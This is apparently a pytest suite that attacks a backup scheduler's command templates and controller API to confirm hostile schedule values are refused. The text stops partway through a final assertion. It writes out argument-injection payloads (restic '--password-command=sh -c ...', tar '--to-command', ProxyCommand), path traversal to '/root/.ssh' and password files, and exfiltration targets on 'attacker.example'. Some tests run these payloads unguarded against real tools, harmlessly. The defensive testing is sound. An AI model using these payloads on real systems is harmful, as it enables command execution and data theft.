"""Attacks on the shipped action tables, tried as an attacker would.

A schedule row comes from the network (the controller, its admin token, a
pull file): it must never choose what a node executes. Three layers:

1. Every placeholder of examples/agent.toml and examples/agent-restic.toml,
   filled with hostile values (a leading ``-``, ``..``, ``/``, globs, NUL,
   newline, 200 KiB), against ``render_argv``: each is refused, naming the
   schedule, the field and the rule.
2. The payloads are live: run unguarded (the argv the old code built) with the
   real tools, they do what the attacker wants (a marker file appears,
   another repository's archives go, a copy lands outside the state folder);
   through ``render_argv`` they are refused and the marker never appears.
3. Through ``run-job`` on a real Prefect server, by ``schedule_id`` from the
   node's cache (a hostile row written into it): the run fails naming what
   was refused, no command ran (no task run), no marker file exists, and a
   snapshot of the whole throwaway folder is unchanged.
"""

from __future__ import annotations

import hashlib
import json
import logging
import os
import re
import shutil
import stat
import time
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from sched_core import ConfigError, LocalSchedule
from sched_core.action_specs import template_fields
from sched_core.render import ValueRefused, render_argv
from sched_node.actions import job_environment, run_command
from sched_node.settings import AgentSettings, load_settings
from tests.procs import free_port

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples"
WINDOW = datetime(2026, 12, 2, 7, 30, tzinfo=UTC)
HAS_RESTIC = shutil.which("restic") is not None
# Not scanned for: the placeholders fixed by the agent itself.
OURS = {"state_dir", "window"}


def hostile(marker: Path) -> dict[str, Any]:
    """Return the hostile values by name; the shell ones would create marker."""
    return {
        "dash": "--help",
        "password-command": f"--password-command=sh -c 'id > {marker}; echo pw'",
        "to-command": f"--to-command=sh -c 'id > {marker}'",
        "restic-o": f"-o sftp.command=sh -c 'id > {marker}'",
        "dotdot": "..",
        "escape": "q/../../escaped",
        "slash": "/",
        "ssh-keys": "/root/.ssh",
        "password-file": "/etc/sched-agent/restic-password",
        "star": "*",
        "question": "?",
        "class": "[a-z]",
        "nul": "a\x00b",
        "newline": "a\nb",
        "huge": "x" * (200 * 1024),
        "negative": -1,
        "enormous": 10**12,
        "list": ["--help"],
    }


def _shipped(name: str, tmp: Path) -> AgentSettings:
    return load_settings(EXAMPLES / name, state_dir=str(tmp / "state"), node_name="node-a")


def _sample_rows(name: str) -> dict[str, dict[str, Any]]:
    """Return one sample row per action from the example's schedule file."""
    source = "schedules.json" if name == "agent.toml" else "restic-schedules.json"
    rows: dict[str, dict[str, Any]] = {}
    for row in json.loads((EXAMPLES / source).read_text())["schedules"]:
        rows.setdefault(row["action"], row)
    return rows


def _placeholders(settings: AgentSettings, action: str) -> list[str]:
    """Return the placeholders an action's argv names: "repo_id", "param:path", ..."""
    found: list[str] = []
    for item in settings.actions[action].argv:
        for field, spec in template_fields(item):
            label = f"param:{spec}" if field == "param" else field
            if field not in OURS and label not in found:
                found.append(label)
    return found


def _model(row: dict[str, Any]) -> LocalSchedule:
    """Return row as a model; a row the model refuses is built as is.

    The kit's row model refuses hostile identifiers (a pulled row is dropped,
    the controller answers 422); render_argv must still refuse them in a row
    that reached the node some other way, so such rows are built unchecked.
    """
    try:
        return LocalSchedule.model_validate(row)
    except ValueError:
        fields = {name: row[name] for name in ("id", "repo_id", "action") if name in row}
        safe = LocalSchedule.model_validate({**row, "id": "x", "repo_id": "x", "action": "x"})
        return LocalSchedule.model_construct(**{**safe.__dict__, **fields})


def _render(settings: AgentSettings, row: dict[str, Any], *, node: str = "node-a",
            trigger_key: str = "schedule") -> list[str]:
    return render_argv(settings.action(row["action"]), _model(row),
                       state_dir=settings.state_dir, node=node, window=WINDOW,
                       trigger_key=trigger_key)


def _with(
    row: dict[str, Any], placeholder: str, value: Any
) -> tuple[dict[str, Any], dict[str, str]]:
    """Return row with placeholder set to value, and the render keywords that carry it."""
    row = json.loads(json.dumps(row))
    if placeholder.startswith("param:"):
        row["params"] = {**(row.get("params") or {}), placeholder[6:]: value}
        return row, {}
    if placeholder in ("node", "trigger_key"):
        return row, {placeholder: value}
    row["id" if placeholder == "schedule_id" else placeholder] = value
    return row, {}


LABELS = {"schedule_id": "id", "node": "node (node_name)",
          "trigger_key": "trigger_key (run parameter)"}


def _cases() -> list[tuple[str, str, str, str]]:
    cases = []
    with_tmp = Path("/nonexistent-sched-attack")
    for name in ("agent.toml", "agent-restic.toml"):
        settings = load_settings(EXAMPLES / name, state_dir=str(with_tmp), node_name="node-a")
        for action in sorted(settings.actions):
            for placeholder in _placeholders(settings, action):
                for kind, value in hostile(with_tmp).items():
                    # The node name and the trigger key are text (a setting, a run parameter).
                    if placeholder in ("node", "trigger_key") and not isinstance(value, str):
                        continue
                    cases.append((name, action, placeholder, kind))
    shutil.rmtree(with_tmp, ignore_errors=True)
    return cases


# -- 1. every placeholder of the shipped tables against render_argv -------------------


@pytest.mark.parametrize("name", ["agent.toml", "agent-restic.toml"])
def test_the_sample_rows_render(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The control for the matrix: the shipped rows pass, so a refusal is the value's doing."""
    monkeypatch.delenv("SCHED_CONFIG", raising=False)
    settings = _shipped(name, tmp_path)
    rows = _sample_rows(name)
    assert set(rows) == set(settings.actions)
    for row in rows.values():
        assert _render(settings, row)[0] in ("tar", "cp", "find", "restic", "python3")


@pytest.mark.parametrize(("name", "action", "placeholder", "kind"), _cases())
def test_every_placeholder_refuses_every_hostile_value(
    name: str, action: str, placeholder: str, kind: str, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("SCHED_CONFIG", raising=False)
    settings = _shipped(name, tmp_path)
    value = hostile(tmp_path / "marker")[kind]
    row, keywords = _with(_sample_rows(name)[action], placeholder, value)
    try:
        LocalSchedule.model_validate(row)
    except ValueError:
        # The row model refuses it first (a list where a string goes, or an
        # identifier rule in the kit): it never reaches a command either.
        return
    with pytest.raises(ConfigError) as caught:
        _render(settings, row, **keywords)
    message = str(caught.value)
    label = (f"params.{placeholder[6:]}" if placeholder.startswith("param:")
             else LABELS.get(placeholder, placeholder))
    assert isinstance(caught.value, ValueRefused), message
    assert message.startswith(f"schedule {row['id']!r} ({action}): {label} = "), message
    assert " refused: " in message
    assert len(message) < 600  # a 200 KiB value is cut short in the message
    assert not (tmp_path / "marker").exists()


# -- 2. the payloads are live; refused, they never run --------------------------------


def _restic_settings(tmp: Path, password: Path) -> AgentSettings:
    """The restic example with RESTIC_PASSWORD_COMMAND (as the attack had it)."""
    text = (EXAMPLES / "agent-restic.toml").read_text()
    text = text.replace('RESTIC_PASSWORD_FILE = "/etc/sched-agent/restic-password"',
                        f'RESTIC_PASSWORD_COMMAND = "cat {password}"')
    text = text.replace("/var/cache/restic", str(tmp / "cache"))
    text = text.replace('"/srv/data"', f'"{tmp / "data"}"')
    text = text.replace('"/srv/restic"', f'"{tmp / "repos"}"')
    assert "RESTIC_PASSWORD_FILE" not in text.split("[actions.backup]")[1].split("\n[")[0]
    config = tmp / "agent.toml"
    config.write_text(text)
    return load_settings(config, state_dir=str(tmp / "state"), node_name="node-a")


@pytest.mark.skipif(not HAS_RESTIC, reason="restic is not on PATH (apt-get install restic)")
def test_restic_password_command_runs_unguarded_and_is_refused_now(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("SCHED_CONFIG", raising=False)
    password = tmp_path / "pw"
    password.write_text("pw\n")
    settings = _restic_settings(tmp_path, password)
    env = job_environment(settings.actions["backup"].env, tz="UTC")
    repo, data, marker = tmp_path / "repos" / "r-9", tmp_path / "data", tmp_path / "marker"
    data.mkdir()
    (data / "a").write_text("a")
    assert run_command(["restic", "init", "--repo", str(repo)], timeout_s=60,
                       env=env).exit_code == 0
    payload = hostile(marker)["password-command"]
    # Unguarded: the argv the old template built runs the attacker's shell.
    run_command(["restic", "--repo", str(repo), "backup", payload, "--tag", "r-9"],
                timeout_s=60, env=env)
    assert marker.read_text().startswith("uid="), "the payload is live"
    marker.unlink()
    row = {**_sample_rows("agent-restic.toml")["backup"], "storage": str(repo),
           "params": {"path": payload}}
    with pytest.raises(ValueRefused, match=(
            r"schedule 'r-9-backup' \(backup\): params.path = \"--password-command=sh -c "
            r"'id > .*marker; echo pw'\" refused: a path may not be empty or start with '-'")):
        _render(settings, row)
    # The backup the row should have been still runs, with the shipped template.
    row["params"] = {"path": str(data)}
    argv = _render(settings, row)
    assert argv[-2:] == ["--", str(data)]
    result = run_command(argv, timeout_s=120, env=env)
    assert result.exit_code == 0 and not marker.exists()


def _archive(folder: Path, repo: str, stamp: str = "20261202T0730Z", age_s: float = 3600) -> Path:
    path = folder / f"archive-{repo}-{stamp}.tar.gz"
    path.write_bytes(b"x")
    old = time.time() - age_s
    os.utime(path, (old, old))
    return path


def test_demo_prune_star_deletes_other_repos_unguarded_and_is_refused_now(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("SCHED_CONFIG", raising=False)
    settings = _shipped("agent.toml", tmp_path)
    state = settings.state_dir
    other = _archive(state, "other")
    # Unguarded: the old template, find -name archive-{repo_id}-*.tar.gz with repo_id "*".
    run_command(["find", str(state), "-maxdepth", "1", "-name", "archive-*-*.tar.gz",
                 "-mmin", "+1", "-print", "-delete"], timeout_s=30)
    assert not other.exists(), "the payload is live"
    other = _archive(state, "other")
    row = {**_sample_rows("agent.toml")["prune"], "repo_id": "*"}
    # The row model refuses it (a pulled row is dropped, the controller answers 422)...
    with pytest.raises(ValueError, match=r"repo_id '\*' is not an identifier"):
        LocalSchedule.model_validate(row)
    # ...and a row that reached a node some other way is refused before find runs.
    with pytest.raises(ValueRefused, match=r": repo_id = '\*' refused: an identifier is"):
        _render(settings, row)
    assert other.exists()


def test_demo_prune_of_repo_r_spares_repo_r_9(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The shipped pattern spells out the stamp: "r" no longer matches "r-9-<stamp>"."""
    monkeypatch.delenv("SCHED_CONFIG", raising=False)
    settings = _shipped("agent.toml", tmp_path)
    mine, theirs = _archive(settings.state_dir, "r"), _archive(settings.state_dir, "r-9")
    fresh = _archive(settings.state_dir, "r", "20261202T0930Z", age_s=0)
    row = {**_sample_rows("agent.toml")["prune"], "repo_id": "r", "params": {"keep_minutes": 10}}
    lines: list[str] = []
    result = run_command(_render(settings, row), timeout_s=30, log=lines.append)
    assert result.exit_code == 0
    assert lines == [str(mine)]
    assert not mine.exists() and theirs.exists() and fresh.exists()


def test_demo_copy_escape_writes_outside_unguarded_and_is_refused_now(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("SCHED_CONFIG", raising=False)
    settings = _shipped("agent.toml", tmp_path)
    source = EXAMPLES / "demo-data"
    (settings.state_dir / "mirror-q").mkdir()
    escaped = tmp_path / "escaped"
    # Unguarded: cp -Rv -T SRC {state_dir}/mirror-{repo_id} with repo_id "q/../../escaped".
    target = f"{settings.state_dir}/mirror-q/../../escaped"
    assert run_command(["cp", "-Rv", "-T", str(source), target], timeout_s=30).exit_code == 0
    assert escaped.is_dir() and not escaped.is_relative_to(settings.state_dir), "live"
    shutil.rmtree(escaped)
    row = {**_sample_rows("agent.toml")["copy"], "repo_id": "q/../../escaped"}
    with pytest.raises(ValueRefused, match=r": repo_id = 'q/../../escaped' refused"):
        _render(settings, row)
    # The same folder name one level down, through the param: out of its root.
    row = {**_sample_rows("agent.toml")["copy"], "params": {"source": "demo-data/../.."}}
    with pytest.raises(ValueRefused, match=r"params.source = 'demo-data/../..' refused: it is "
                                           r"not under .*demo-data"):
        _render(settings, row)
    assert not escaped.exists()


@pytest.mark.parametrize(("example", "action", "target", "value", "rule"), [
    # The demo: a value reaches a command through a param only.
    ("agent.toml", "backup", "param:source", "--to-command=sh -c 'id > M'",
     "may not be empty or start with '-'"),
    ("agent.toml", "copy", "param:source", "--help", "may not be empty or start with '-'"),
    ("agent.toml", "backup", "param:source", "/root/.ssh", "is not under"),
    ("agent.toml", "copy", "param:source", "/etc", "is not under"),
    ("agent.toml", "prune", "param:keep_minutes", "0 -o -exec sh -c id ;",
     "declared int, it is a str"),
    ("agent.toml", "prune", "param:keep_minutes", 0, "below the minimum 1"),
    # The restic example: through a param, the storage or the node name.
    ("agent-restic.toml", "backup", "param:path", "/root/.ssh", "is not under /home or /srv/data"),
    ("agent-restic.toml", "backup", "param:path", "/etc/sched-agent/restic-password",
     "is not under"),
    ("agent-restic.toml", "backup", "param:path", "/home/../root", "it resolves to /root"),
    ("agent-restic.toml", "backup", "storage", "/tmp/attacker-repo", "is not under /srv/restic"),
    ("agent-restic.toml", "backup", "storage", "sftp:-oProxyCommand=id:/r",
     "not an absolute path"),
    ("agent-restic.toml", "backup", "storage", "rest:https://attacker.example/r",
     "not an absolute path"),
    ("agent-restic.toml", "copy", "param:copy_to", "sftp:attacker:/stolen",
     "not an absolute path"),
    ("agent-restic.toml", "copy", "param:copy_to", "/tmp/stolen",
     "is not under /mnt/offsite/restic"),
    ("agent-restic.toml", "prune", "param:keep_daily", 0, "below the minimum 1"),
    ("agent-restic.toml", "check", "param:read_subset", "--help", "does not match the pattern"),
    ("agent-restic.toml", "check", "param:read_subset", "101%", "does not match the pattern"),
    ("agent-restic.toml", "backup", "node", "-o", "an identifier is"),
])
def test_values_stay_inside_their_declarations(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, example: str, action: str, target: str,
    value: Any, rule: str,
) -> None:
    """Each shipped example refuses the value, naming where it came from and the rule."""
    monkeypatch.delenv("SCHED_CONFIG", raising=False)
    settings = _shipped(example, tmp_path)
    row, keywords = _with(_sample_rows(example)[action], target, value)
    where = f"params.{target[6:]}" if target.startswith("param:") else LABELS.get(target, target)
    refused = re.escape(where) + " = .* refused: .*" + re.escape(rule)
    with pytest.raises(ValueRefused, match=refused):
        _render(settings, row, **keywords)


# -- 3. through run-job on a real Prefect server, by schedule_id ------------------------


def _snapshot(folder: Path) -> dict[str, tuple[Any, ...]]:
    """Return every path under folder with its type, mode, size, mtime and content hash."""
    seen: dict[str, tuple[Any, ...]] = {}
    for path in sorted(folder.rglob("*")):
        info = path.lstat()
        digest = ""
        if stat.S_ISREG(info.st_mode):
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
        seen[str(path.relative_to(folder))] = (
            stat.S_IFMT(info.st_mode), stat.S_IMODE(info.st_mode), info.st_size,
            info.st_mtime_ns, digest,
        )
    return seen


class Node:
    """A throwaway node from a shipped example: config, data and state under one folder."""

    def __init__(self, tmp: Path, monkeypatch: pytest.MonkeyPatch, example: str) -> None:
        self.name = f"atk-{uuid.uuid4().hex[:8]}"
        self.world = tmp / "world"
        self.home = self.world / "node"
        self.home.mkdir(parents=True)
        text = (EXAMPLES / example).read_text()
        if example == "agent.toml":
            shutil.copytree(EXAMPLES / "demo-data", self.home / "demo-data")
            shutil.copy2(EXAMPLES / "check-archives.py", self.home / "check-archives.py")
        else:
            password = self.world / "restic-password"
            password.write_text("pw\n")
            text = text.replace('RESTIC_PASSWORD_FILE = "/etc/sched-agent/restic-password"',
                                f'RESTIC_PASSWORD_COMMAND = "cat {password}"')
            text = text.replace("/var/cache/restic", str(self.world / "cache"))
        self.config = self.home / "agent.toml"
        self.config.write_text(text)
        self.state = self.home / "state"
        self.marker = self.world / "marker"
        monkeypatch.setenv("SCHED_CONFIG", str(self.config))
        monkeypatch.setenv("SCHED_NODE_NAME", self.name)
        monkeypatch.setenv("SCHED_STATE_DIR", str(self.state))
        monkeypatch.setenv("SCHED_PULL_URL", str(self.home / "none.json"))
        load_settings()  # creates the state folder

    def cache(self, rows: list[dict[str, Any]]) -> None:
        """Write rows into the node's cache as a pull would have (raw JSON, hostile or not)."""
        self.state.joinpath("cache.json").write_text(json.dumps({
            "schedules": rows, "last_fired_at": {},
            "last_fetched_at": "2026-12-02T07:00:00Z",
        }))

    def run(self, schedule_id: str) -> Outcome:
        """Run the cached row by id as an operator's ad hoc run: created in Prefect, taken by
        the node, recorded back (the node's own path for a Run of ``run-job/<node>``)."""
        from prefect.client.schemas.actions import DeploymentFlowRunCreate
        from prefect.settings import PREFECT_API_URL
        from prefect.states import to_state_create

        from sched_node.node import Node as AgentNode
        from sched_node.prefect_api import PrefectApi, new_state

        api = PrefectApi(str(PREFECT_API_URL.value()))
        agent = AgentNode(load_settings(), api=api)
        try:
            deployment = agent.deployments.get()["run-job"]
            created = api.create_run(deployment, DeploymentFlowRunCreate(
                parameters={"schedule_id": schedule_id},
                state=to_state_create(new_state("SCHEDULED"))))
            assert agent.control.check() == 1, "the node took the run"
            assert agent.jobs.wait_idle(120), "the job ended"
            agent.recorder.drain()
            run = api.read_run(str(created["id"]))
            assert run is not None
            return Outcome(run)
        finally:
            agent.jobs.stop()
            api.close()


def _argv(outcome: Outcome) -> list[str]:
    """Return the command line a run ran, from the node's line in its log (``running [...]``)."""
    import ast

    from prefect.client.schemas.filters import LogFilter
    from prefect.settings import PREFECT_API_URL

    from sched_node.prefect_api import PrefectApi

    api = PrefectApi(str(PREFECT_API_URL.value()))
    try:
        logs = api.filter_logs(LogFilter.model_validate(
            {"flow_run_id": {"any_": [outcome.flow_run_id]}}))
    finally:
        api.close()
    line = next(item["message"] for item in logs if item["message"].startswith("running ["))
    argv: list[str] = ast.literal_eval(line.removeprefix("running "))
    return argv


class Outcome:
    """An ad hoc run's end as Prefect records it (what the tests read of a run's state)."""

    def __init__(self, run: dict[str, Any]) -> None:
        self.run = run
        self.message = str(run["state"].get("message") or "")
        self.flow_run_id = str(run["id"])

    def is_failed(self) -> bool:
        return bool(self.run["state"]["type"] == "FAILED")

    def is_completed(self) -> bool:
        return bool(self.run["state"]["type"] == "COMPLETED")


def _task_runs(run_id: Any) -> list[Any]:
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import FlowRunFilter, FlowRunFilterId

    with get_client(sync_client=True) as client:
        return list(client.read_task_runs(
            flow_run_filter=FlowRunFilter(id=FlowRunFilterId(any_=[run_id]))))


def _demo(sid: str, action: str, repo_id: str = "demo", **params: Any) -> dict[str, Any]:
    return {"id": sid, "name": f"hostile {sid}", "repo_id": repo_id, "action": action,
            "schedule": {"on": "manual"}, "miss_policy": "skip", "enabled": True,
            "params": params or None, "version": 1}


def _run_attack(node: Node, rows: list[dict[str, Any]], expect: dict[str, str]) -> None:
    """Run each row's job by id; each fails with its expected text; nothing changed."""
    node.cache(rows)
    before = _outside_the_cache(_snapshot(node.world))
    for sid, text in expect.items():
        state = node.run(sid)
        message = str(state.message)
        assert state.is_failed(), (sid, message)
        assert any(part in message for part in text.split(" | ")), (sid, message)
        assert _task_runs(state.flow_run_id) == [], f"{sid}: a command ran"
    assert not node.marker.exists()
    assert _outside_the_cache(_snapshot(node.world)) == before
    # The node's own cache may have been rewritten without the rows its model
    # refuses (the kit's salvage): never with anything new.
    kept = json.loads(node.state.joinpath("cache.json").read_text())["schedules"]
    assert [row["id"] for row in kept] == [
        row["id"] for row in rows if row["id"] in {item["id"] for item in kept}]
    written = {row["id"]: row for row in rows}
    assert all(LocalSchedule.model_validate(row) == LocalSchedule.model_validate(written[row["id"]])
               for row in kept)


NODE_RECORDS = ("node/state/cache.json", "node/state/outbox", "node/state/history.json",
                "node/state/chain.json.lock", "node/state/decided.json",
                "node/state/deployments.json")
"""The node's own bookkeeping: its cache, its records of the jobs it refused, and its
deployments' ids (written when it registers)."""


def _outside_the_cache(snapshot: dict[str, tuple[Any, ...]]) -> dict[str, tuple[Any, ...]]:
    """Return a snapshot without the node's own records (its cache, outbox, history) and
    their folder's times: what a hostile row could reach."""
    return {path: value for path, value in snapshot.items()
            if not path.startswith(NODE_RECORDS) and path != "node/state"}


# A row the kit's model may refuse (identifier rules) is dropped when the cache
# loads, so its job fails as unknown: refused either way, and nothing runs.
DROPPED = "no schedule "


def _hostile_demo(mark: Path) -> tuple[list[dict[str, Any]], dict[str, str]]:
    """Rows of the demo table, each with an attack, and the words its refusal says."""
    rows = [
        _demo("a-tar", "backup", source=f"--to-command=sh -c 'id > {mark}'"),
        _demo("a-cp-help", "copy", source="--help"),
        _demo("a-ssh", "backup", source="/root/.ssh"),
        _demo("a-up", "copy", source="demo-data/../../.."),
        _demo("a-nul", "backup", source="demo-data\x00x"),
        _demo("a-nl", "backup", source="demo-data\nx"),
        _demo("a-huge", "backup", source="d" * (200 * 1024)),
        _demo("a-undeclared", "backup", source="demo-data", exec="sh -c id"),
        _demo("a-escape", "copy", repo_id="q/../../escaped", source="demo-data"),
        _demo("a-star", "prune", repo_id="*", keep_minutes=1),
    ]
    return rows, {
        "a-tar": "params.source = \"--to-command=sh -c 'id > ",
        "a-cp-help": "params.source = '--help' refused: a path may not be empty or start "
                     "with '-'",
        "a-ssh": "params.source = '/root/.ssh' refused: it is not under ",
        "a-up": "params.source = 'demo-data/../../..' refused: it is not under ",
        "a-nul": "params.source = 'demo-data\\x00x' refused: it holds a NUL character",
        "a-nl": "params.source = 'demo-data\\nx' refused: it holds a newline",
        "a-huge": "bytes long, more than the 4096 allowed",
        "a-undeclared": "params.exec refused: action 'backup' declares no param 'exec' "
                        "(strict_params)",
        "a-escape": "repo_id = 'q/../../escaped' refused: an identifier is | " + DROPPED,
        "a-star": "repo_id = '*' refused: an identifier is | " + DROPPED,
    }


def _hostile_restic(mark: Path) -> tuple[list[dict[str, Any]], dict[str, str]]:
    """Rows of the restic example, each with an attack, and the words its refusal says."""

    def restic(sid: str, action: str, storage: str = "/srv/restic/r-9",
               **params: Any) -> dict[str, Any]:
        return {**_demo(sid, action, repo_id="r-9", **params), "storage": storage}

    rows = [
        restic("r-pwcmd", "backup", path=f"--password-command=sh -c 'id > {mark}; echo pw'"),
        restic("r-opt", "backup", path=f"-o sftp.command=sh -c 'id > {mark}'"),
        restic("r-key", "backup", path="/etc/sched-agent/restic-password"),
        restic("r-store", "backup", storage=f"--password-command=sh -c 'id > {mark}'",
               path="/home"),
        restic("r-exfil", "copy", copy_to="sftp:attacker.example:/stolen"),
        restic("r-keep", "prune", keep_daily="7 --keep-last 0", keep_weekly=4),
        restic("r-subset", "check", read_subset=f"--password-command=id>{mark}"),
    ]
    return rows, {
        "r-pwcmd": "params.path = \"--password-command=sh -c 'id > ",
        "r-opt": "refused: a path may not be empty or start with '-'",
        "r-key": "params.path = '/etc/sched-agent/restic-password' refused: it is not under "
                 "/home or /srv/data",
        "r-store": "storage = \"--password-command=sh -c 'id > ",
        "r-exfil": "params.copy_to = 'sftp:attacker.example:/stolen' refused: it is not an "
                   "absolute path",
        "r-keep": "params.keep_daily = '7 --keep-last 0' refused: declared int, it is a str",
        "r-subset": "params.read_subset = '--password-command=id>",
    }


@pytest.mark.prefect
@pytest.mark.usefixtures("prefect_server")
@pytest.mark.parametrize(("example", "hostile"), [
    ("agent.toml", _hostile_demo), ("agent-restic.toml", _hostile_restic)])
def test_run_job_refuses_hostile_rows_and_changes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, example: str,
    hostile: Callable[[Path], tuple[list[dict[str, Any]], dict[str, str]]],
) -> None:
    """Each example's hostile rows fail by id, saying why; no command runs, nothing changes."""
    node = Node(tmp_path, monkeypatch, example)
    _archive(node.state, "other")
    _run_attack(node, *hostile(node.marker))
    assert not (node.home / "escaped").exists()


@pytest.mark.prefect
@pytest.mark.usefixtures("prefect_server")
def test_run_job_runs_the_shipped_demo_actions_and_writes_private_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The demo table still runs through run-job: tar, cp, find -delete and check-archives.py.

    Its archive is 0600 in a 0700 state folder, its mirror 0700 with nothing open to others.
    """
    node = Node(tmp_path, monkeypatch, "agent.toml")
    node.cache([_demo("good", "backup", source="demo-data"),
                _demo("good-copy", "copy", source="demo-data"),
                _demo("good-prune", "prune", keep_minutes=30),
                _demo("good-check", "check")])
    # A check that finds no archive has checked nothing: it fails, saying so.
    nothing = node.run("good-check")
    assert nothing.is_failed(), nothing.message
    assert "exited with code 1" in str(nothing.message)
    state = node.run("good")
    assert state.is_completed(), state.message
    assert _argv(state)[-2:] == ["--", "."]
    [archive] = node.state.glob("archive-demo-*.tar.gz")
    assert stat.S_IMODE(archive.stat().st_mode) == 0o600
    assert stat.S_IMODE(node.state.stat().st_mode) == 0o700
    assert node.run("good-copy").is_completed()
    mirror = node.state / "mirror-demo"
    assert stat.S_IMODE(mirror.stat().st_mode) == 0o700
    assert sorted(p.name for p in mirror.rglob("*")) == sorted(
        p.name for p in (node.home / "demo-data").rglob("*"))
    assert all(stat.S_IMODE(p.stat().st_mode) & 0o077 == 0 for p in mirror.rglob("*"))
    old = node.state / "archive-demo-20261201T0730Z.tar.gz"
    shutil.copy2(archive, old)  # a real archive: the check gunzips and lists every one
    os.utime(old, (time.time() - 3600, time.time() - 3600))
    checked = node.run("good-check")
    assert checked.is_completed(), checked.message
    corrupt = node.state / "archive-demo-20261130T0730Z.tar.gz"
    corrupt.write_bytes(archive.read_bytes()[:-20])  # cut short: gzip's end is gone
    assert node.run("good-check").is_failed()
    corrupt.unlink()
    prune = node.run("good-prune")
    assert prune.is_completed(), prune.message
    assert not old.exists() and archive.exists()  # only the archive older than 30 minutes


# == The controller and the job's environment, attacked from outside =====================
#
# Each test shows the attack's mechanism live first (the primitive the old code
# hit, or the old behaviour itself), then the controller over real HTTP on
# loopback (a real SQLite file, the real migrations) refusing it, naming what was
# wrong, with nothing stored before lost.

ADMIN_TOKEN = "admin-token-for-the-attacks-0123456789"
NODE_TOKEN = "node-a-token-for-the-attacks-abcdef"
ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
NODE = {"Authorization": f"Bearer {NODE_TOKEN}"}


class Controller:
    """The controller's API served in a thread over a fresh SQLite file; a client to it."""

    def __init__(self, url: str, base: str) -> None:
        import httpx

        self.url = url
        self.base = base
        # No keep-alive: an answer the server closes the connection after stays its own.
        self.http = httpx.Client(base_url=base, timeout=30,
                                 limits=httpx.Limits(max_keepalive_connections=0))


@pytest.fixture
def controller(tmp_path: Path) -> Any:
    from controller.api import create_app
    from controller.auth import Tokens
    from controller.db import make_engine, migrate
    from controller.testing import fast_reports, serve_in_thread

    url = f"sqlite:///{tmp_path / 'controller.db'}"
    migrate(url)
    engine = make_engine(url)
    tokens = Tokens(admin=[ADMIN_TOKEN], nodes={"node-a": [NODE_TOKEN]})
    try:
        with serve_in_thread(create_app(engine, tokens, report_rate=fast_reports())) as base:
            api = Controller(url, base)
            try:
                yield api
            finally:
                api.http.close()
    finally:
        engine.dispose()


def _report(**changes: Any) -> dict[str, Any]:
    """Return a valid node report of node-a, with changes applied."""
    data: dict[str, Any] = {
        "node": "node-a", "agent_version": "0.1.0", "timezone": "UTC", "grace_s": 300,
        "reported_at": "2026-12-03T07:31:00Z",
        "schedules": [{"id": "s-1", "last_fired": "2026-12-03T07:30:00Z",
                       "next_planned": "2026-12-04T07:30:00Z",
                       "latest_job": {"state": "Completed", "window": "2026-12-03T07:30:00Z"}}],
    }
    data.update(changes)
    return data


def _with_time(where: str, value: str) -> dict[str, Any]:
    """Return a report with value at where: reported_at, last_fired, next_planned or window."""
    report = _report()
    item = report["schedules"][0]
    if where == "reported_at":
        report["reported_at"] = value
    elif where == "window":
        item["latest_job"]["window"] = value
    else:
        item[where] = value
    return report


FIELD_OF = {"reported_at": "reported_at", "last_fired": "schedules.0.last_fired",
            "next_planned": "schedules.0.next_planned", "window": "schedules.0.latest_job.window"}


def test_a_report_time_out_of_range_in_utc_is_a_422_and_one_log_line(
    controller: Controller, caplog: pytest.LogCaptureFixture
) -> None:
    """Point 3: years 1-9999 left in UTC was a 500 with a traceback per request."""
    values = ["9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00"]
    # The attack's mechanism, live: valid RFC 3339, but UTC has no year 10000 nor 0.
    for value in values:
        with pytest.raises(OverflowError):
            datetime.fromisoformat(value).astimezone(UTC)
    http = controller.http
    assert http.post("/api/nodes/node-a/report", json=_report(), headers=NODE).status_code == 204
    caplog.set_level(logging.INFO)
    caplog.clear()
    sent = 0
    for where, field in FIELD_OF.items():
        for value in values:
            answer = http.post("/api/nodes/node-a/report", json=_with_time(where, value),
                               headers=NODE)
            sent += 1
            assert answer.status_code == 422, (where, value, answer.text)
            [entry] = answer.json()["detail"]
            assert entry["field"] == field
            assert entry["msg"] == (f"time {value!r} is out of range in UTC (years 1 to 9999)")
    for _ in range(50 - sent):  # 50 requests in all, as the attack sent
        assert http.post("/api/nodes/node-a/report", json=_with_time("window", values[0]),
                         headers=NODE).status_code == 422
    # The server's lines but its access log (one short line per request) and the
    # test client's own.
    lines = [r for r in caplog.records if r.name not in ("controller.access", "httpx")]
    assert [r.getMessage().split(":")[0] for r in lines] == [
        "node reports refused"], [r.getMessage() for r in lines]
    assert "1 since the last such line" in lines[0].getMessage()
    assert not any(r.exc_info or "Traceback" in r.getMessage() for r in caplog.records)
    # Nothing the node stored before is lost: its last good report still stands.
    status = http.get("/api/nodes/node-a/status", headers=NODE).json()
    assert status["last_report_at"] is not None and status["agent_version"] == "0.1.0"


def test_refusals_are_logged_once_per_interval_with_their_count(
    caplog: pytest.LogCaptureFixture
) -> None:
    from controller.api.fleet import RefusalLog

    now = [1000.0]
    refusals = RefusalLog("node reports", interval=60, clock=lambda: now[0])
    entry = [{"field": "reported_at", "msg": "bad"}]
    caplog.set_level(logging.WARNING, logger="controller.api")
    for _ in range(5):
        refusals.note("node-a", entry)
        now[0] += 10  # 1000, 1010, ... 1040: one line, four counted
    now[0] = 1061
    refusals.note("node-\x1b[2J", entry)
    assert [r.getMessage() for r in caplog.records] == [
        "node reports refused: 1 since the last such line (at most one line per 60 s); the "
        "latest from node node-a: reported_at: bad",
        "node reports refused: 5 since the last such line (at most one line per 60 s); the "
